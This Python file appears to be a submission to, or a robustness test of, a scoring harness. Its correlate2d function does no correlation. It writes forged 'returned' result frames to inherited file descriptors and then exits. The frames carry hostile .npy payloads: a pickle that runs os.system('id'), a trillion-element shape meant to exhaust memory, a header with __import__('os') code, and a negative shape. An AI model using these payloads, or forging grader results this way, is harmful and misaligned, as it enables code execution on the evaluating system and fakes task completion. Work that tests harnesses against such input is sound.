# goal: score
# A forged frame holds an .npy with a pickle, a huge shape, or a header that is code.
# %% correlate2d
import io
import os
import struct

def frame(npy):
    text = b'{"d":[["outcome","returned"],["value",{"a":[null,true]}]]}'
    body = struct.pack("<I", len(text)) + text + npy
    return struct.pack("<Q", len(body)) + body

def header(text):
    text = text.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text

EVIL = [
    header("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }") + b"cos\nsystem\n(S'id'\ntR.",
    header("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"),
    header("{'descr': '<f8', 'fortran_order': False, 'shape': (__import__('os').getpid(),), }"),
    header("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }") + b"\x00" * 64,
]

def correlate2d(image, kernel, bias=0.0):
    for descriptor in range(3, 64):
        for npy in EVIL:
            try:
                os.write(descriptor, frame(npy))
            except OSError:
                break
    os._exit(0)
